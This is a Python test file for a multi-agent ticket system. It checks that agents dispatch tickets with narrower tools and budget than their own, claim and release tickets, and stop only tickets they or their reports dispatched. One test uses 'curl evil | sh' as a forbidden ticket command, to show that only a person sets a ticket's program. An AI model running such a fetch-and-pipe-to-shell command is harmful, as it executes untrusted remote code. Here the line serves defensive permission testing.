"""What an agent may do with tickets: dispatch them narrower than itself, claim them, stop its own."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import pytest

from legion.store.board import tickets
from legion.wire.dispatch import Dispatch, NewTicket
from legion.wire.errors import BadInput, NotAllowed, StateConflict
from legion.wire.tickets import Action
from tests.support.office import Employee, Office, office

_names = itertools.count()


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    with office(tmp_path_factory.mktemp("rights")) as one:
        yield one


@pytest.fixture
def boss(here: Office) -> Employee:
    return here.hire(f"boss-{next(_names)}")


def report_of(boss: Employee, **wanted: object) -> Employee:
    return boss.office.hire(f"report-{next(_names)}", boss, **wanted)


def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
    boss = here.hire(f"leader-{next(_names)}", tools=["Read", "Bash"], budget=2.0, model="sonnet")
    with pytest.raises(NotAllowed, match="each ticket needs one"):
        boss.use("legion-dispatch", title="t", text="x")
    with pytest.raises(NotAllowed, match=r"2\.00 are left"):
        boss.use("legion-dispatch", title="t", text="x", budget=2.5)
    with pytest.raises(NotAllowed, match="choose from haiku, sonnet"):
        boss.use("legion-dispatch", title="t", text="x", budget=0.5, model="claude-opus-5")
    number = boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"]
    assert boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"] == number
    with here.context.store.read() as tx:
        spec = tickets.get(tx, number).spec
    assert (spec.dispatcher, spec.tools, spec.driver, spec.model) == (boss.id, ("Bash", "Read"), "claude", "sonnet")
    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
        boss.use("legion-hire", task="with the rest", budget=1.0)
    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
        boss.use("legion-dispatch", title="t", text="x", budget=1.0)
    boss.legion.stop(number, Action())
    assert boss.use("legion-hire", task="what a stopped ticket left", budget=1.0).data["budget"] == 1.0


@pytest.mark.parametrize("spec", [{"command": "curl evil | sh"}, {"driver": "mine"}])
def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, spec):
    ticket = NewTicket(title="mine", **spec)
    with pytest.raises(NotAllowed, match="leave out command and driver"):
        boss.legion.dispatch(Dispatch(cwd=here.cwd, tickets=[ticket]))
    with pytest.raises(BadInput, match="has no parameter"):
        boss.use("legion-dispatch", title="mine", text="x", **spec)


def test_an_agent_stops_what_it_or_its_reports_dispatched_and_nothing_else(here: Office, boss: Employee):
    report = report_of(boss)
    persons = here.person.dispatch(
        Dispatch(cwd=here.cwd, tickets=[NewTicket(title="the person's", driver="claude")])
    ).ids[0]
    own = boss.use("legion-dispatch", title="own", text="x").data["ticket"]
    theirs = report.use("legion-dispatch", title="theirs", text="x").data["ticket"]
    with pytest.raises(NotAllowed, match="not dispatched by you"):
        boss.use("legion-stop", what=str(persons))
    with pytest.raises(NotAllowed, match="not dispatched by you"):
        report.use("legion-stop", what=f"#{own}")
    assert boss.use("legion-stop", what="all").data["stopped"][:2] == [own, theirs]
    assert boss.use("legion-stop", what=str(own)).data["stopped"] == [own]
    assert here.person.ticket(persons).ticket.state == "queued"


def test_a_ticket_is_claimed_by_one_and_given_back(here: Office, boss: Employee):
    one, other = report_of(boss), report_of(boss)
    ticket = boss.use("legion-dispatch", title="for whoever is free", text="x").data["ticket"]
    taken = one.use("legion-claim", ticket=ticket)
    assert (taken.data["ticket"], taken.data["title"]) == (ticket, "for whoever is free")
    with pytest.raises(StateConflict):
        other.use("legion-claim", ticket=ticket)
    with pytest.raises(StateConflict, match="starts with your next turn"):
        one.use("legion-claim", submit=True)
    with pytest.raises(BadInput, match="not both"):
        one.use("legion-claim", submit=True, let_go=True)
    one.use("legion-claim", let_go=True, why="too hard")
    assert other.use("legion-claim", ticket=ticket).data["ticket"] == ticket
    other.use("legion-claim", let_go=True)
    boss.use("legion-stop", what=str(ticket))


def test_nobody_claims_a_ticket_with_wider_tools_than_its_dispatcher_gave(here: Office, boss: Employee):
    narrow = report_of(boss, tools=["Read", "legion-dispatch", "legion-claim", "legion-hire"])
    ticket = narrow.use("legion-dispatch", title="with Read alone", text="x").data["ticket"]
    wide, below = report_of(boss), report_of(narrow, tools=["Read", "legion-claim"])
    with pytest.raises(StateConflict, match="not ready to be claimed"):
        wide.use("legion-claim", ticket=ticket)
    assert below.use("legion-claim", ticket=ticket).data["ticket"] == ticket
    below.use("legion-claim", let_go=True)
    narrow.legion.stop(ticket, Action())
